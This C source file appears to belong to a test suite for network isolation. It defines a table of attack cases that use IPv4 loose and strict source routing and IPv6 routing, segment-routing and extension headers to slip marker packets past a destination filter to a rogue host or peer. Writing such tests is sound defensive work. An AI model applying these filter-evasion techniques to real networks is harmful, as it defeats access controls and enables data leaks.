// SPDX-License-Identifier: GPL-2.0-only
/*
 * IP options and extension headers: where the header says that a packet goes is not where the
 * program said, and the truth may be either. hop: what the header names first; to: what the call
 * names.
 */
#include <errno.h>
#include <linux/if_ether.h>
#include <netinet/ip.h>
#include <string.h>

#include "send.h"

#define SRR_LEN 8 /* a NOP for alignment, then type, length, pointer and one address */
#define SRH_LEN (8 + 2 * 16)
#define RT2_LEN (8 + 16)

struct source_route {
	uint8_t nop, type, len, at;
	struct in_addr hop;
};

static int with_route(int type, uint8_t kind, struct in_addr hop)
{
	const struct source_route r = { IPOPT_NOP, kind, SRR_LEN - 1, 4, hop };

	return set_option(open_socket(AF_INET, type, 0), IPPROTO_IP, IP_OPTIONS, &r, sizeof(r));
}

static int cmsg_route(const struct attack_env *e, uint8_t kind, struct in_addr hop, struct dest to)
{
	const struct source_route r = { IPOPT_NOP, kind, SRR_LEN - 1, 4, hop };

	return send_cmsg(e, open_socket(AF_INET, SOCK_DGRAM, 0), to, IPPROTO_IP, IP_RETOPTS, &r,
			 sizeof(r));
}

static int lsrr_to_host(const struct attack_env *e)
{
	return send_mark(e, with_route(SOCK_DGRAM, IPOPT_LSRR, e->rogue4), target4(e));
}

static int lsrr_to_peer(const struct attack_env *e)
{
	return send_mark(e, with_route(SOCK_DGRAM, IPOPT_LSRR, e->target4),
			 dest4(e->peer4, e->port));
}

static int lsrr_tcp(const struct attack_env *e)
{
	return done(connect_to(with_route(SOCK_STREAM, IPOPT_LSRR, e->target4),
			       dest4(e->peer4, e->port)));
}

static int lsrr_cmsg_host(const struct attack_env *e)
{
	return cmsg_route(e, IPOPT_LSRR, e->rogue4, target4(e));
}

static int lsrr_cmsg_peer(const struct attack_env *e)
{
	return cmsg_route(e, IPOPT_LSRR, e->target4, dest4(e->peer4, e->port));
}

/* No router passes these on to a gateway of its own: the host itself hears them. */
static int ssrr_to_host(const struct attack_env *e)
{
	relay_begin(e);
	return relay_end(e,
			 send_mark(e, with_route(SOCK_DGRAM, IPOPT_SSRR, e->rogue4), target4(e)));
}

/* The first of a strict route is on the link; bound to a device, a socket finds everybody there. */
static int ssrr_to_peer(const struct attack_env *e)
{
	int fd = set_option(with_route(SOCK_DGRAM, IPOPT_SSRR, e->target4), SOL_SOCKET,
			    SO_BINDTODEVICE, e->dev, strlen(e->dev));

	relay_begin(e);
	return relay_end(e, send_mark(e, fd, dest4(e->peer4, e->port)));
}

static int ssrr_cmsg(const struct attack_env *e)
{
	relay_begin(e);
	return relay_end(e, cmsg_route(e, IPOPT_SSRR, e->rogue4, target4(e)));
}

/* No other way, but a header that is longer than others'. */
static int opt_record(const struct attack_env *e)
{
	const uint8_t rr[SRR_LEN] = { IPOPT_NOP, IPOPT_RR, SRR_LEN - 1, 4 };
	int fd = set_option(open_socket(AF_INET, SOCK_DGRAM, 0), IPPROTO_IP, IP_OPTIONS, rr,
			    sizeof(rr));

	return send_mark(e, fd, target4(e));
}

/* ---- IPv6. The kernel puts the call's address into the first segment, which is the last to go. */

static void put_srh(uint8_t h[SRH_LEN], struct in6_addr hop)
{
	const uint8_t head[8] = { 0, 4, 4, 1, 1, 0, 0, 0 };

	memset(h, 0, SRH_LEN);
	memcpy(h, head, sizeof(head));
	memcpy(h + 8 + 16, &hop, sizeof(hop));
}

static int socket6(void)
{
	return open_socket(AF_INET6, SOCK_DGRAM, 0);
}

static int srh_to_peer(const struct attack_env *e)
{
	uint8_t h[SRH_LEN];

	put_srh(h, e->target6);
	return send_mark(e, set_option(socket6(), IPPROTO_IPV6, IPV6_RTHDR, h, sizeof(h)),
			 dest6(e->peer6, e->port));
}

static int srh_to_host(const struct attack_env *e)
{
	uint8_t h[SRH_LEN];
	int fd;

	put_srh(h, e->rogue6);
	fd = set_option(socket6(), IPPROTO_IPV6, IPV6_RTHDR, h, sizeof(h));
	relay_begin(e);
	return relay_end(e, send_mark(e, fd, target6(e)));
}

static int srh_tcp(const struct attack_env *e)
{
	uint8_t h[SRH_LEN];
	int fd = open_socket(AF_INET6, SOCK_STREAM, 0);

	put_srh(h, e->target6);
	fd = set_option(fd, IPPROTO_IPV6, IPV6_RTHDR, h, sizeof(h));
	return done(connect_to(fd, dest6(e->peer6, e->port)));
}

/* Mobility's home address (type 2), and the one that everybody has deprecated (type 0). */
static int rthdr_socket(const struct attack_env *e, uint8_t type, uint8_t h[RT2_LEN])
{
	const uint8_t head[] = { 0, 2, type, 1 };

	memset(h, 0, RT2_LEN);
	memcpy(h, head, sizeof(head));
	memcpy(h + 8, &e->target6, 16);
	return set_option(socket6(), IPPROTO_IPV6, IPV6_RTHDR, h, RT2_LEN);
}

static int rthdr(const struct attack_env *e, uint8_t type)
{
	uint8_t h[RT2_LEN];
	int fd = rthdr_socket(e, type, h);

	if (fd == -EINVAL)
		return attack_skip("no routing header of type %d on this kernel", type);
	return send_mark(e, fd, dest6(e->peer6, e->port));
}

static int rthdr0(const struct attack_env *e)
{
	return rthdr(e, 0);
}

static int rthdr2(const struct attack_env *e)
{
	return rthdr(e, 2);
}

static int rthdr2_cmsg(const struct attack_env *e)
{
	uint8_t h[RT2_LEN];

	if (rthdr_socket(e, 2, h) == -EINVAL)
		return attack_skip("no routing header of type 2 on this kernel");
	return send_cmsg(e, socket6(), dest6(e->peer6, e->port), IPPROTO_IPV6, IPV6_RTHDR, h,
			 sizeof(h));
}

static const uint8_t padding[8] = { 0, 0, 1, 4, 0, 0, 0, 0 }; /* one PadN option */

static int extension(const struct attack_env *e, int name)
{
	return send_mark(e, set_option(socket6(), IPPROTO_IPV6, name, padding, sizeof(padding)),
			 target6(e));
}

static int hopopts(const struct attack_env *e)
{
	return extension(e, IPV6_HOPOPTS);
}

static int dstopts(const struct attack_env *e)
{
	return extension(e, IPV6_DSTOPTS);
}

static int hopopts_cmsg(const struct attack_env *e)
{
	return send_cmsg(e, socket6(), target6(e), IPPROTO_IPV6, IPV6_HOPOPTS, padding,
			 sizeof(padding));
}

static int dstopts_cmsg(const struct attack_env *e)
{
	return send_cmsg(e, socket6(), target6(e), IPPROTO_IPV6, IPV6_DSTOPTS, padding,
			 sizeof(padding));
}

/* Source routes need no capability but on new kernels, and there nobody else can show a leak. */
const struct attack attacks_header[] = {
	{ "lsrr_to_host", "loose source route: by the host, to the target", STOP_I1, NEEDS_NET_RAW,
	  .run = lsrr_to_host },
	{ "lsrr_to_peer", "loose source route: by the target, to a peer", STOP_I1, NEEDS_NET_RAW,
	  .run = lsrr_to_peer },
	{ "lsrr_tcp", "the same with TCP", STOP_I1, NEEDS_NET_RAW, .run = lsrr_tcp },
	{ "lsrr_cmsg_host", "loose source route with the message: by the host, to the target",
	  STOP_I1, NEEDS_NET_RAW, .run = lsrr_cmsg_host },
	{ "lsrr_cmsg_peer", "loose source route with the message: by the target, to a peer",
	  STOP_I1, NEEDS_NET_RAW, .run = lsrr_cmsg_peer },
	{ "ssrr_to_host", "strict source route: by the host, to the target", STOP_I1, NEEDS_NET_RAW,
	  .run = ssrr_to_host, .helper = hear_ip4, .where = PLACE_ROGUE },
	{ "ssrr_to_peer", "strict source route: by the target, to a peer", STOP_I1, NEEDS_NET_RAW,
	  .run = ssrr_to_peer, .helper = hear_ip4, .where = PLACE_ROGUE },
	{ "ssrr_cmsg", "strict source route with the message", STOP_I1, NEEDS_NET_RAW,
	  .run = ssrr_cmsg, .helper = hear_ip4, .where = PLACE_ROGUE },
	{ "opt_record", "a harmless IP option (record route)", STOP_I1, NEEDS_NOTHING,
	  .run = opt_record },
	{ "srh_to_peer", "segment routing header: by the target, to a peer", STOP_I1, NEEDS_NOTHING,
	  .run = srh_to_peer },
	{ "srh_to_host", "segment routing header: by the host, to the target", STOP_I1,
	  NEEDS_NOTHING, .run = srh_to_host, .helper = hear_ip6, .where = PLACE_ROGUE },
	{ "srh_tcp", "segment routing header with TCP", STOP_I1, NEEDS_NOTHING, .run = srh_tcp },
	{ "rthdr0", "routing header of type 0", STOP_I1, NEEDS_NOTHING, .run = rthdr0 },
	{ "rthdr2", "routing header of type 2 (mobility)", STOP_I1, NEEDS_NOTHING, .run = rthdr2 },
	{ "rthdr2_cmsg", "routing header of type 2 with the message", STOP_I1, NEEDS_NOTHING,
	  .run = rthdr2_cmsg },
	{ "hopopts", "hop-by-hop options", STOP_I1, NEEDS_NET_RAW, .run = hopopts },
	{ "dstopts", "destination options", STOP_I1, NEEDS_NET_RAW, .run = dstopts },
	{ "hopopts_cmsg", "hop-by-hop options with the message", STOP_I1, NEEDS_NET_RAW,
	  .run = hopopts_cmsg },
	{ "dstopts_cmsg", "destination options with the message", STOP_I1, NEEDS_NET_RAW,
	  .run = dstopts_cmsg },
	{ .name = NULL },
};
